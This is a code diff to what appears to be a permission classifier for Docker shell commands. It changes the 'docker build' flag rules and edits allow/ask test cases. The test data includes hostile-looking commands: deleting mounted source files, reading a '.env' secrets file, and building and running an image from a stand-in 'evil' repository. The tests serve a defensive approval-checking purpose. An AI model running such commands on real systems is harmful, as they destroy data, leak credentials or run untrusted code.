@@ -55,14 +55,13 @@ EXEC_OPTIONS = (
 )
 BUILD_OPTIONS = (
     flags("""
-        --build-arg= --target= --platform= --no-cache[=] --pull[=] -q --quiet --progress= --cache-from=
+        -t= --tag= --build-arg= --target= --platform= --no-cache[=] --pull[=] -q --quiet --progress= --cache-from=
         --cache-to= --label= --network= --rm[=] --squash --memory= -m= --add-host= --load --shm-size= --ulimit=
         --force-rm --compress --isolation= --builder= --build-context= --no-cache-filter= --attest= --provenance=
         --sbom= --annotation= --cpus= --cpu-shares= --disable-content-trust --layers[=] --format= --jobs= --set= --print
         --check -D --debug
     """),
     option("-f --file", "OPENS"),
-    option("-t --tag", "READ_BY(docker.tag)"),
     option("--secret --ssh", "READ_BY(docker.build_secret)"),
     option("--iidfile --metadata-file", WRITES),
     option("-o --output", "READ_BY(docker.build_output)"),
@@ -257,8 +256,7 @@ ask    docker run --network host app:dev
 ask    docker run --rm -v $PWD:/w -w /w alpine rm -rf src
 ask    docker run --rm -v $PWD:/w alpine cat /w/.env
 ask    docker run $IMAGE
-allow  docker build -q -t acme/api:test . && docker run --rm acme/api:test pytest -q
-ask    docker build -q -t acme/api:test . && docker run --rm acme/other pytest -q
+ask    docker build -q -t acme/api:test . | tail -3 && docker run --rm acme/api:test pytest -q
 ask    docker build -t acme/api https://github.com/evil/x.git && docker run --rm acme/api
 allow  docker exec web ls -la /app
 ask    docker exec web env
